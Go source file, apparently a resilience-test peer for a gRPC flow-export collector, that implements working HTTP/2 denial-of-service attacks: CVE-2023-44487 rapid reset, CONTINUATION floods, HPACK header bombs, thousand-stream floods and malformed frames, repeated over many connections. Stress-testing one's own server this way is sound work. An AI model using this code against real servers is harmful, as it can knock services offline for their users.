package main

import (
	"bytes"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"grpcpeer/flowpb"
)

// attacker speaks HTTP/2 frame by frame.
type attacker struct {
	*http2.Framer
	connection *tls.Conn
	block      bytes.Buffer
	encoder    *hpack.Encoder
	stream     uint32
	// next is the stream of the next request, less one, where there are many.
	next uint32
	// windows are what may be sent, of the connection under 0.
	windows map[uint32]int
	changed sync.Cond
}

// take waits until so many octets may be sent.
func (a *attacker) take(stream uint32, octets int) error {
	a.changed.L.Lock()
	defer a.changed.L.Unlock()
	if _, known := a.windows[stream]; !known {
		a.windows[stream] = 65535
	}
	late := time.AfterFunc(5*time.Second, func() { a.update(0, -1<<30) })
	defer late.Stop()
	for a.windows[0] < octets || a.windows[stream] < octets {
		if a.windows[0] < -1<<20 {
			return fmt.Errorf("no window")
		}
		a.changed.Wait()
	}
	a.windows[0] -= octets
	a.windows[stream] -= octets
	return nil
}

func (a *attacker) update(stream uint32, octets int) {
	a.changed.L.Lock()
	defer a.changed.L.Unlock()
	a.windows[stream] += octets
	a.changed.Broadcast()
}

func dial(chosen *options) *attacker {
	config := chosen.tls()
	config.NextProtos = []string{"h2"}
	connection, err := tls.Dial("tcp", chosen.collector, config)
	if err != nil {
		fail(err)
	}
	if _, err := connection.Write([]byte(http2.ClientPreface)); err != nil {
		fail(err)
	}
	a := &attacker{Framer: http2.NewFramer(connection, connection), connection: connection, stream: 1}
	a.windows = map[uint32]int{0: 65535}
	a.changed.L = &sync.Mutex{}
	a.encoder = hpack.NewEncoder(&a.block)
	return a
}

// headers are those of a call of Export, and more.
func (a *attacker) headers(more ...hpack.HeaderField) []byte {
	a.block.Reset()
	fields := []hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "https"},
		{Name: ":path", Value: flowpb.FlowExportService_Export_FullMethodName},
		{Name: ":authority", Value: "collector"},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	}
	for _, field := range append(fields, more...) {
		if err := a.encoder.WriteField(field); err != nil {
			fail(err)
		}
	}
	return a.block.Bytes()
}

// open begins a stream.
func (a *attacker) open() (uint32, error) {
	stream := a.stream
	a.stream += 2
	return stream, a.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: a.headers(), EndHeaders: true})
}

// requests sends whole requests in one stream, as far as flow control lets them.
func (a *attacker) requests(data []byte) error {
	if a.stream == 1 {
		if _, err := a.open(); err != nil {
			return err
		}
	}
	if err := a.take(1, len(data)); err != nil {
		return err
	}
	return a.WriteData(1, false, data)
}

// streams is how many one connection opens where it has many.
const streams = 1000

// openMany opens that many streams, once.
func (a *attacker) openMany() error {
	for a.stream < 2*streams {
		stream, err := a.open()
		if err != nil {
			return err
		}
		a.update(stream, 65535)
	}
	return nil
}

// thousand sends whole requests in a thousand streams, in each as far as flow control lets it.
func (a *attacker) thousand(data []byte) error {
	if err := a.openMany(); err != nil {
		return err
	}
	for range streams {
		a.next = (a.next + 2) % (2 * streams)
		if a.has(a.next+1, len(data)) {
			break
		}
	}
	if err := a.take(a.next+1, len(data)); err != nil {
		return err
	}
	return a.WriteData(a.next+1, false, data)
}

// tiny sends one request to each of a thousand streams, at once.
func (a *attacker) tiny(request []byte) error {
	if err := a.openMany(); err != nil {
		return err
	}
	block := bytes.Buffer{}
	framer := http2.NewFramer(&block, nil)
	for range streams {
		a.next = (a.next + 2) % (2 * streams)
		if err := a.take(a.next+1, len(request)); err != nil {
			return err
		}
		if err := framer.WriteData(a.next+1, false, request); err != nil {
			return err
		}
	}
	_, err := a.connection.Write(block.Bytes())
	return err
}

// has says whether so many octets may be sent in a stream.
func (a *attacker) has(stream uint32, octets int) bool {
	a.changed.L.Lock()
	defer a.changed.L.Unlock()
	return a.windows[stream] >= octets
}

var attacks = map[string]func(*attacker) error{
	// CVE-2023-44487: streams that are reset as soon as they are opened.
	"rapid-reset": func(a *attacker) error {
		stream, err := a.open()
		if err != nil {
			return err
		}
		return a.WriteRSTStream(stream, http2.ErrCodeCancel)
	},
	"settings": func(a *attacker) error {
		return a.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
	},
	"ping": func(a *attacker) error { return a.WritePing(false, [8]byte{1}) },
	// One block of headers that never ends.
	"continuation": func(a *attacker) error {
		if a.stream == 1 {
			a.stream = 3
			return a.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.headers(), EndHeaders: false})
		}
		a.block.Reset()
		field := hpack.HeaderField{Name: "x-" + strings.Repeat("a", 1000), Value: strings.Repeat("b", 8000), Sensitive: true}
		if err := a.encoder.WriteField(field); err != nil {
			return err
		}
		return a.WriteContinuation(1, false, a.block.Bytes())
	},
	"huge-headers": func(a *attacker) error {
		stream := a.stream
		a.stream += 2
		fields := []hpack.HeaderField{}
		for number := 0; number < 200; number++ {
			fields = append(fields, hpack.HeaderField{Name: fmt.Sprintf("x-%d-%d", stream, number), Value: strings.Repeat("v", 70)})
		}
		return a.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: a.headers(fields...), EndHeaders: true})
	},
	"window-updates":     func(a *attacker) error { return a.WriteWindowUpdate(0, 1) },
	"overflowing-window": func(a *attacker) error { return a.WriteWindowUpdate(0, 1<<31-1) },
	// Requests that say to be large, of which the beginning comes, in many streams, as far as flow control lets them.
	"half-requests": func(a *attacker) error {
		data := make([]byte, 16000)
		stream := 1 + a.stream/4*2%2000
		a.stream += 2
		if _, known := a.windows[stream]; !known {
			if err := a.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: a.headers(), EndHeaders: true}); err != nil {
				return err
			}
			copy(data, []byte{0, 0, 0x3f, 0xff, 0xff})
		}
		if err := a.take(stream, len(data)); err != nil {
			return err
		}
		return a.WriteData(stream, false, data)
	},
	// The same without a look at what may be sent.
	"without-window": func(a *attacker) error {
		stream, err := a.open()
		if err != nil {
			return err
		}
		return a.WriteData(stream, false, make([]byte, 16000))
	},
	// A request that says to have 4 MiB less one octet, and comes as far as it is sent.
	"large-request": func(a *attacker) error {
		data := make([]byte, 16000)
		if a.stream == 1 {
			copy(data, []byte{0, 0, 0x3f, 0xff, 0xff})
		}
		return a.requests(data)
	},
	// Streams that end with the frame that opens them.
	"streams-that-end": func(a *attacker) error {
		stream := a.stream
		a.stream += 2
		param := http2.HeadersFrameParam{StreamID: stream, BlockFragment: a.headers(), EndHeaders: true, EndStream: true}
		return a.WriteHeaders(param)
	},
	// Open streams with headers of 60,000 octets each, of which few go over the wire (HPACK).
	"compressed-headers": func(a *attacker) error {
		stream := a.stream
		a.stream += 2
		fields := make([]hpack.HeaderField, 15)
		for index := range fields {
			fields[index] = hpack.HeaderField{Name: "x-a", Value: strings.Repeat("v", 3900)}
		}
		return a.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: a.headers(fields...), EndHeaders: true})
	},
	"too-long-request": func(a *attacker) error {
		stream, err := a.open()
		if err != nil {
			return err
		}
		return a.WriteData(stream, false, []byte{0, 0x7f, 0xff, 0xff, 0xff, 1})
	},
	"wrong-frames": func(a *attacker) error {
		return a.WriteRawFrame(http2.FrameType(200), 0xff, a.stream, make([]byte, 16384))
	},
	"data-on-stream-0": func(a *attacker) error { return a.WriteRawFrame(http2.FrameData, 0, 0, []byte{1}) },
	// Requests without an octet, 3,200 in a frame.
	"empty-requests": func(a *attacker) error { return a.requests(make([]byte, 16000)) },
	// Requests of nothing but fields that nobody knows, each of which is read for nothing.
	"unknown-fields": func(a *attacker) error {
		return a.requests(append([]byte{0, 0, 0, 0x1f, 0x40}, bytes.Repeat([]byte{0x78, 1}, 4000)...))
	},
	// The same in many streams.
	"empty-requests-in-a-thousand-streams": func(a *attacker) error { return a.thousand(make([]byte, 16000)) },
	// One in each frame.
	"tiny-frames-in-a-thousand-streams": func(a *attacker) error { return a.tiny(make([]byte, 5)) },
	"empty-data": func(a *attacker) error {
		if a.stream == 1 {
			if _, err := a.open(); err != nil {
				return err
			}
		}
		return a.WriteData(1, false, nil)
	},
}

// attack does one thing again and again on so many connections, on each of them for as long as it is let or told, and says how
// the last one ended.
func attack(chosen *options) {
	commands(func(line []byte) {
		var asked struct {
			Attack      string
			Times       int
			Connections int
		}
		if err := json.Unmarshal(line, &asked); err != nil {
			fail(err)
		}
		once := attacks[asked.Attack]
		if once == nil {
			fail(fmt.Errorf("no attack %q", asked.Attack))
		}
		outcomes := make(chan outcome)
		for range asked.Connections {
			go func() { outcomes <- attackOnce(dial(chosen), once, asked.Times) }()
		}
		last := outcome{}
		for range asked.Connections {
			one := <-outcomes
			last = outcome{times: last.times + one.times, how: one.how}
		}
		emit(map[string]any{"attack": asked.Attack, "times": last.times, "ended": last.how})
	})
}

// outcome is how often it was done, and what ended the connection, if anything did.
type outcome struct {
	times int
	how   string
}

func attackOnce(a *attacker, once func(*attacker) error, times int) outcome {
	ended := make(chan string, 1)
	go func() {
		for {
			frame, err := a.ReadFrame()
			if err != nil {
				ended <- err.Error()
				return
			}
			if update, ok := frame.(*http2.WindowUpdateFrame); ok {
				a.update(update.StreamID, int(update.Increment))
			}
			if goaway, ok := frame.(*http2.GoAwayFrame); ok {
				ended <- fmt.Sprintf("GOAWAY %s %s", goaway.ErrCode, goaway.DebugData())
				return
			}
		}
	}()
	how := ""
	if err := a.WriteSettings(); err != nil {
		how = err.Error()
	}
	a.connection.SetWriteDeadline(time.Now().Add(10 * time.Second))
	done := 0
	for ; how == "" && done < times; done++ {
		if err := once(a); err != nil {
			how = err.Error()
		}
	}
	select {
	case how = <-ended:
	case <-time.After(500 * time.Millisecond):
	}
	a.connection.Close()
	return outcome{times: done, how: how}
}
